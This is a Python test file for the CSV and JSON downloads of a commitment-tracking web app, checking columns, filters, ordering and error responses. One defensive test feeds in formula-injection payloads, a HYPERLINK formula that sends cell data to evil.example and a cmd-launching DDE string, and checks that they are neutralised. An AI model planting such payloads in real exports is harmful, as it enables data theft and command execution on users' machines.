"""Every list of commitments downloads as CSV and JSON, with the list's filters: documented
columns, values as the pages show them, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from bs4 import BeautifulSoup
from flask import Flask, render_template
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from accord.domain.agreement import Agreement
from accord.platform.policy import SYSTEM
from accord.projections.listing import Filters
from accord.services import Services
from accord.web.filters import ListRequest
from accord.web.opendata.spreadsheet import COLUMNS, neutralised
from tests.scenario import OGP, World, claim
from tests.web.conftest import html
from tests.web.list_helpers import PLAN, ghana, listed

DOCS = Path(__file__).parents[2] / "docs" / "open-data.md"
BASE = "http://127.0.0.1:8000"  # the default ACCORD_BASE_URL


def csv_rows(response: TestResponse) -> list[dict[str, str]]:
    """The rows of a CSV download, by column name, after checking the header row."""
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff")  # the byte order mark spreadsheets look for
    reader = csv.DictReader(io.StringIO(body.removeprefix("\ufeff"), newline=""))
    rows = list(reader)
    assert reader.fieldnames == list(COLUMNS)
    return rows


def references(rows: list[dict[str, str]]) -> list[str]:
    return [row["reference"] for row in rows]


def contested(services: Services, world: World) -> None:
    """The government says limited and civil society substantial on Ghana's OGP commitment."""
    claim(services.app, world.government, world.commitment_id, "limited")
    claim(services.app, world.civil_society, world.commitment_id, "substantial")


def test_the_csv_has_the_documented_columns_and_a_row_per_commitment(
        client: FlaskClient, services: Services, world: World) -> None:
    contested(services, world)
    response = client.get("/commitments.csv")
    rows = {row["reference"]: row for row in csv_rows(response)}
    # every commitment, in reference order by default
    assert list(rows) == ["CO0001", "GH-ACS-01", "GH0001"]
    # a row says what the list pages say, in stable machine values and readable labels
    row = rows["GH0001"]
    assert {name: row[name] for name in (
        "id", "country", "country_name", "action_plan", "title", "end_date", "overdue",
        "agreement", "government_status", "government_status_label", "civil_society_statuses",
        "civil_society_status_labels", "civil_society_reports", "reviewer_status", "url")} == {
        "id": str(world.commitment_id), "country": "GHA", "country_name": "Ghana",
        "action_plan": "AP_GHA01", "title": "Commitment GH0001", "end_date": "",
        "overdue": "no", "agreement": "contested", "government_status": "limited",
        "government_status_label": "Limited", "civil_society_statuses": "substantial",
        "civil_society_status_labels": "Substantial", "civil_society_reports": "1",
        "reviewer_status": "", "url": f"{BASE}/commitments/{world.commitment_id}"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["last_change"])
    assert rows["CO0001"]["agreement"] == "not_reported"
    # rows end as RFC 4180 says, and the file is a download with a telling name
    assert response.get_data().count(b"\r\n") == 4
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(r"attachment; filename=accord-commitments-\d{4}-\d\d-\d\d\.csv",
                        disposition)


def test_every_column_is_documented() -> None:
    documented = DOCS.read_text(encoding="utf-8")
    # each column has a row in the table of docs/open-data.md
    missing = [name for name in COLUMNS if f"| `{name}` |" not in documented]
    assert missing == []


def test_cells_that_a_spreadsheet_would_run_as_a_formula_are_neutralised(
        client: FlaskClient, services: Services, world: World) -> None:
    # a commitment whose title and institution look like formulas
    services.app.register_commitment(
        SYSTEM, country="GHA", reference="GH0666", framework_id=OGP,
        title='=HYPERLINK("https://evil.example/?"&A1,"Details")',
        lead_institution="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = {row["reference"]: row for row in csv_rows(client.get("/commitments.csv"))}
    # each is kept as text, behind a quote that spreadsheets do not show
    assert rows["GH0666"]["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Details")'
    assert rows["GH0666"]["lead_institution"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # other cells are left as they are
    assert rows["GH0001"]["title"] == "Commitment GH0001"
    # the JSON download keeps the text exactly (it is not read by spreadsheets)
    document = client.get("/commitments.json?q=GH0666").get_json()
    assert document["commitments"][0]["lead_institution"].startswith("@SUM")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_start_of_a_formula_is_neutralised(value: str) -> None:
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Ghana", "1-2", "a=b", "'quoted", "2024-01-01"])
def test_other_cells_are_left_alone(value: str) -> None:
    assert neutralised(value) == value


def test_downloads_apply_the_same_filters_and_order_as_the_lists(
        client: FlaskClient, services: Services, world: World) -> None:
    contested(services, world)

    def csv_references(query: str) -> list[str]:
        return references(csv_rows(client.get(f"/commitments.csv?{query}")))

    def json_references(query: str) -> list[str]:
        response = client.get(f"/commitments.json?{query}")
        assert response.status_code == 200
        return [item["reference"] for item in response.get_json()["commitments"]]

    assert csv_references("country=GHA") == ["GH-ACS-01", "GH0001"]
    assert csv_references("country=GHA&agreement=contested") == ["GH0001"]
    assert csv_references("agreement=not_reported") == ["CO0001", "GH-ACS-01"]
    assert csv_references("status=substantial") == ["GH0001"]
    assert json_references("theme=open_data") == ["CO0001"]
    assert json_references("plan=AP_GHA01") == ["GH0001"]
    assert json_references("q=contract") == ["GH0001"]
    assert json_references("country=GHA&sort=title") == ["GH-ACS-01", "GH0001"]
    # a download holds every commitment of the list, whatever page the list was on
    assert csv_references("per_page=1&page=2") == ["CO0001", "GH-ACS-01", "GH0001"]
    # its name says what it holds
    disposition = client.get("/commitments.csv?country=GHA&agreement=contested").headers[
        "Content-Disposition"]
    assert "filename=accord-commitments-gha-contested-" in disposition


def test_the_json_download_has_its_filters_its_total_and_each_commitment(
        client: FlaskClient, services: Services, world: World) -> None:
    contested(services, world)
    response = client.get("/commitments.json?country=GHA&agreement=contested")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"].startswith(
        "attachment; filename=accord-commitments-gha-contested-")
    assert response.headers["Content-Disposition"].endswith(".json")
    document = response.get_json()
    assert document["filters"] == {"country": "GHA", "agreement": "contested"}
    assert document["total"] == 1
    [item] = document["commitments"]
    assert item["id"] == str(world.commitment_id)
    assert item["agreement"] == "contested"
    assert item["government_status"] == {"code": "limited", "label": "Limited"}
    assert item["civil_society_statuses"] == [{"code": "substantial", "label": "Substantial"}]
    assert item["overdue"] is False
    # its links are absolute: the file is read away from Accord
    assert item["links"]["page"] == f"{BASE}/commitments/{world.commitment_id}"
    assert item["links"]["feed"] == f"{BASE}/feeds/commitments/{world.commitment_id}.atom"


def test_a_download_with_a_filter_that_makes_no_sense_is_refused(
        client: FlaskClient, world: World) -> None:
    # the CSV link answers a page that says why
    response = client.get("/commitments.csv?agreement=maybe")
    assert response.status_code == 400
    assert "Unknown agreement state: maybe." in html(response).get_text()
    # the JSON one answers JSON, naming the parameter
    response = client.get("/commitments.json?country=XYZ")
    assert response.status_code == 400
    assert response.get_json()["error"]["parameter"] == "country"


def test_the_download_links_keep_the_lists_filters_and_order_but_not_its_page(
        app: Flask) -> None:
    wanted = ListRequest(Filters(country="GHA", agreement=Agreement.CONTESTED, q="audit"),
                         sort="-end_date", page=3, per_page=10)
    with app.test_request_context("/countries/GHA"):
        soup = BeautifulSoup(render_template("public/_downloads.html", list_request=wanted),
                             "html.parser")
        empty = render_template("public/_downloads.html", list_request=None)
    links = {a.get_text(strip=True): urlsplit(a["href"]) for a in soup.select("a")}
    assert {name: link.path for name, link in links.items()} == {
        "CSV": "/commitments.csv", "JSON": "/commitments.json"}
    for link in links.values():
        assert parse_qs(link.query) == {"country": ["GHA"], "agreement": ["contested"],
                                        "q": ["audit"], "sort": ["-end_date"]}
    assert "Download:" in soup.get_text()
    # without a list, nothing is offered
    assert empty.strip() == ""


@pytest.mark.parametrize("page", [
    "/countries/GHA?agreement=contested", "/countries/GHA?overdue=yes&sort=-end_date",
    f"/plans/{PLAN}", "/themes/open_contracting", "/search?q=budget", "/search?status=complete",
])
def test_each_list_page_downloads_exactly_the_commitments_it_lists(
        client: FlaskClient, services: Services, world: World, page: str) -> None:
    ghana(services, world)
    soup = html(client.get(page))
    shown = listed(soup)
    assert shown, page
    links = {a.get_text(strip=True): a["href"] for a in soup.select(".downloads a")}
    assert set(links) == {"CSV", "JSON"}, page
    # the CSV and the JSON hold the list's commitments, in the list's order
    assert references(csv_rows(client.get(links["CSV"]))) == shown, page
    document = client.get(links["JSON"]).get_json()
    assert [item["reference"] for item in document["commitments"]] == shown, page
